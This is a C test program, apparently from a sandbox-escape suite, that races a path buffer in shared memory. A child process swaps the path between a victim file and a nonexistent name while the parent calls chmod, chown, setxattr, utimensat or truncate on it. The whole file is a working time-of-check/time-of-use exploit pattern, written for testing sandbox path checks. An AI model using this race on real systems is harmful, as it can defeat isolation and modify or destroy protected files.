/* A race on a path buffer in memory another process writes: a mapping of a
 * file (shared, or private and not yet written by this process), a memfd
 * or shared anonymous memory. A child flips the path between VICTIM and a
 * name of the same length that does not exist (the view lets a call on a
 * missing name run on the process's own buffer), while the parent makes
 * CALL on the buffer.
 *
 *   shared_map KIND CALL VICTIM [TRIES]
 *     KIND  file-shared   DIR/.map-buf mapped MAP_SHARED, the child pwrite()s the file
 *           file-private  the same file mapped MAP_PRIVATE (its pages follow the file)
 *           memfd         a memfd mapped MAP_SHARED, the child pwrite()s it
 *           anon          MAP_SHARED|MAP_ANONYMOUS, the child writes the memory
 *     CALL  chmod (0640), chown (root: to 1234:1234), setxattr (user.escape),
 *           utimensat (to the epoch), truncate (to 0)
 *
 * TRIES calls (20000), more (up to twice as many) until one reaches the
 * victim: natively the only name that exists is the victim, so each call
 * that succeeds reached it. Exit 0 if some call did.
 */
#include "escape.h"
#include <sys/mman.h>
#include <sys/xattr.h>

static int call(const char *kind, const char *path)
{
    if (!strcmp(kind, "chmod"))
        return chmod(path, 0640);
    if (!strcmp(kind, "chown"))
        return chown(path, 1234, 1234);
    if (!strcmp(kind, "setxattr"))
        return setxattr(path, "user.escape", "1", 1, 0);
    if (!strcmp(kind, "utimensat")) {
        struct timespec t[2] = {{0, 0}, {0, 0}};
        return utimensat(AT_FDCWD, path, t, 0);
    }
    if (!strcmp(kind, "truncate"))
        return truncate(path, 0);
    unsupported("unknown call");
}

int main(int argc, char **argv)
{
    if (argc < 4)
        unsupported("usage: shared_map file-shared|file-private|memfd|anon CALL VICTIM [TRIES]");
    const char *kind = argv[1], *what = argv[2], *victim = argv[3];
    int tries = argc > 4 ? atoi(argv[4]) : 20000;
    size_t n = strlen(victim) + 1;
    if (n > 2048)
        unsupported("victim path too long");
    char other[2048];
    memcpy(other, victim, n);
    other[n - 2] = other[n - 2] == 'X' ? 'Y' : 'X'; /* same length, no such file */

    int fd = -1, shared = strcmp(kind, "file-private") != 0;
    char *buf;
    if (!strcmp(kind, "anon")) {
        buf = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    } else {
        if (!strcmp(kind, "memfd")) {
            fd = memfd_create("path", MFD_CLOEXEC);
        } else {
            char file[2200];
            snprintf(file, sizeof file, "%s/.map-buf", dir_of(victim));
            fd = open(file, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
        }
        if (fd < 0)
            fail("the buffer's file");
        if (ftruncate(fd, 4096) || pwrite(fd, other, n, 0) != (ssize_t)n)
            fail("writing the buffer's file");
        buf = mmap(NULL, 4096, PROT_READ, shared ? MAP_SHARED : MAP_PRIVATE, fd, 0);
    }
    if (buf == MAP_FAILED)
        fail("mmap");
    if (fd < 0)
        memcpy(buf, other, n);

    pid_t child = fork();
    if (child < 0)
        fail("fork");
    if (child == 0) {
        for (;;) {
            if (fd >= 0) {
                if (pwrite(fd, victim, n, 0) != (ssize_t)n || pwrite(fd, other, n, 0) != (ssize_t)n)
                    _exit(1);
            } else {
                memcpy(buf, victim, n);
                memcpy(buf, other, n);
            }
        }
    }
    int wins = 0, refused = 0, last = 0;
    for (int i = 0; i < tries || (!wins && i < 2 * tries); i++) {
        if (call(what, buf) == 0)
            wins++;
        else if (errno != ENOENT) {
            refused++;
            last = errno;
        }
    }
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    printf("wins: %d, refused: %d (last %s)\n", wins, refused, refused ? strerror(last) : "-");
    if (!wins) {
        fprintf(stderr, "no call reached the victim in %d tries\n", 2 * tries);
        return 1;
    }
    return 0;
}
